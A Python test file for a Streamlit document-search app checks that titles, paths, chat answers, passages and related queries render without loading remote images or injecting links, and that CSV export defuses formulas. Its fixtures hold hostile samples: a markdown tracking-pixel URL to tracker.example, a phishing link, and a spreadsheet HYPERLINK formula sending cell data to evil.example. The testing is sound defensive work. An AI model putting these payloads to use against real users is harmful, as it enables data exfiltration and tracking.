"""Stored text reaches st.markdown safely: titles, paths, URLs and answers from documents, crawled pages and
API callers never load a remote image, and titles and paths never become links or formatting.

Rendered with markdown-it (CommonMark, raw HTML off as in st.markdown), the parser family Streamlit's uses.
"""

from __future__ import annotations

import uuid
from html import escape as html_escape

from markdown_it import MarkdownIt
from test_app_pages import assert_clean, open_app

import app_ui

RENDER = MarkdownIt("commonmark", {"html": False}).render
PIXEL = "https://tracker.example/p.png?leak=secret"
HOSTILE = f"Budget ![x]({PIXEL}) [click](https://phish.example) **bold** <img src={PIXEL}>"


def test_escaped_text_renders_as_exactly_its_characters() -> None:
    for text in (HOSTILE, "![r][ref]\n\n[ref]: https://tracker.example/p.png", "a\\![x](https://t.example/p.png)",
                 "dir/`x` ![i](https://t.example/p.png) # h", "$x$ :red[y] | a | b |", "- a", "# h", "12. x",
                 "=== under"):
        html = RENDER(app_ui.md_text(text))
        assert "<img" not in html and "<a " not in html and "<strong>" not in html, (text, html)
        shown = html_escape(" ".join(text.split()), quote=False).replace('"', "&quot;")
        assert html == f"<p>{shown}</p>\n", html


def test_answers_keep_formatting_and_links_but_load_no_image() -> None:
    for answer in (HOSTILE, "![r][ref]\n\n[ref]: https://tracker.example/p.png", "\\![x](https://t.example/p.png)"):
        assert "<img" not in RENDER(app_ui.answer_markdown(answer))
    html = RENDER(app_ui.answer_markdown(HOSTILE))
    assert '<a href="https://phish.example">click</a>' in html and "<strong>bold</strong>" in html


def test_a_source_url_shows_its_whole_address() -> None:
    html = RENDER(app_ui.source_label(f"https://docs.example/a_(b)![i]({PIXEL})", page=3))
    assert "<img" not in html and html.count("<a ") == 1
    assert f">https://docs.example/a_(b)![i]({PIXEL})</a> · page 3" in html.replace("&amp;", "&")


def test_a_hostile_title_path_and_answer_render_inert_in_the_app(app_wb, app_site) -> None:
    app_wb.ingest_text(f"notes/![x]({PIXEL}).md", "The pump budget covers impeller repairs.", site_id=app_site,
                       file_type="md", title=HOSTILE)
    session = f"app-md-{uuid.uuid4().hex[:8]}"
    app_wb.chat_append(session, "user", f"Show me ![me]({PIXEL})")
    app_wb.chat_append(session, "assistant", f"Here: ![leak]({PIXEL}) [1]")
    with app_wb.db.connection() as conn:
        conn.execute("UPDATE chat_sessions SET site_id = %s WHERE id = %s", (app_site, session))

    at = open_app(app_site)
    at.switch_page("app_pages/search.py").run()
    at.text_input(key="search_query").input("pump budget impeller").run()
    assert_clean(at)
    shown = [m.value for m in at.markdown]
    assert any("Budget" in v and "impeller" not in v for v in shown)
    assert not [v for v in shown if "<img" in RENDER(v) or 'href="https://phish' in RENDER(v)]

    at.switch_page("app_pages/chat.py")
    at.session_state["chat_session"] = session
    at.run()
    assert_clean(at)
    messages = [m.markdown[0].value for m in at.chat_message]
    assert len(messages) == 2 and all(PIXEL in v for v in messages)
    assert not [v for v in messages if "<img" in RENDER(v)]


def test_a_cited_passage_loads_no_image() -> None:
    """The sources panel renders passages (document text) as HTML: an image there loaded as soon as it showed."""
    from rag_core.render.quotes import passage_html

    html = passage_html(f"Pumps need care. ![pixel]({PIXEL}) See [the manual](https://docs.example/m).", [(0, 16)])
    assert "<img" not in html and "<mark" in html
    assert f'!<a href="{PIXEL.replace("&", "&amp;")}">pixel</a>' in html
    assert '<a href="https://docs.example/m">the manual</a>' in html


def test_an_earlier_query_offered_as_related_loads_no_image(app_wb, app_site) -> None:
    """Related queries come from the query log (any API caller's); a button label renders markdown images."""
    app_wb.ingest_text("notes/valve.md", "The valve of the feed pump is checked monthly.", site_id=app_site,
                       file_type="md", title="valve")
    hostile = f"valve ![x]({PIXEL}) check"
    assert app_wb.search(hostile, site_id=app_site)["total_results"] >= 1
    app_wb.flush_search_log()
    at = open_app(app_site)
    at.switch_page("app_pages/search.py").run()
    at.text_input(key="search_query").input("feed valve").run()
    assert_clean(at)
    related = [b for b in at.button if b.key and b.key.startswith("search_related_")]
    assert any("tracker" in b.label for b in related)
    assert not [b.label for b in related if "<img" in RENDER(b.label)]
    next(b for b in related if "tracker" in b.label).click().run()
    assert at.text_input(key="search_query").value == hostile  # the click searches the query itself


def test_a_downloaded_csv_runs_no_formula_from_a_document() -> None:
    """A spreadsheet runs a cell starting with = + - @ as a formula: a title could send its row's text away."""
    import csv
    import io

    hostile = '=HYPERLINK("https://evil.example/?"&B2, "open")'
    rows = [{"rank": 1, "title": hostile, "file_path": "-notes.md", "highlights": "@SUM(1)", "score": -0.5},
            {"rank": 2, "title": "Plain title", "file_path": "a.md", "highlights": "", "score": 0.25}]
    parsed = list(csv.DictReader(io.StringIO(app_ui.csv_text(rows))))
    assert [r["title"] for r in parsed] == ["'" + hostile, "Plain title"]
    assert parsed[0]["file_path"] == "'-notes.md" and parsed[0]["highlights"] == "'@SUM(1)"
    assert parsed[0]["score"] == "-0.5"  # numbers stay numbers
